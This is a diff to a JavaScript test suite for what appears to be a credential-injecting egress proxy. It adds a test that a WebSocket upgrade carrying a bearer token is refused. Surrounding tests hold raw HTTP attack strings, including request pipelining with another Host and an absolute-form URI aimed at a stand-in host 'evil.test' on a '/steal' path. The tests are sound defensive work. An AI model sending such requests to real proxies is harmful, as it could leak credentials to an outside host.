@@ -136,6 +136,15 @@ test('attack: pipelining a second request with another Host on the terminated co
   assert.ok(!out.includes(REAL));
 });
 
+test('a WebSocket upgrade inside the terminated tunnel is refused plainly, not forwarded as a stripped GET', async () => {
+  const ws = `GET /ws HTTP/1.1\r\nHost: api.test:${api.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer ${broker.env.TOKEN}\r\n\r\n`;
+  const out = await rawTls('api.test', api.port, 'api.test', ws);
+  assert.match(out, /^HTTP\/1\.1 403/);
+  assert.match(out, /X-Airlock-Deny: upgrade \(WebSocket\)/i);
+  assert.ok(!api.received.some((r) => r.path === '/ws'), 'nothing reached the upstream');
+  assert.ok(!out.includes(REAL));
+});
+
 test('attack: an absolute-form request URI naming another host inside the tunnel is refused', async () => {
   const out = await rawTls('api.test', api.port, 'api.test', `GET https://evil.test:${evil.port}/steal HTTP/1.1\r\nHost: api.test:${api.port}\r\nConnection: close\r\n\r\n`);
   assert.match(out, /HTTP\/1\.1 4\d\d/);
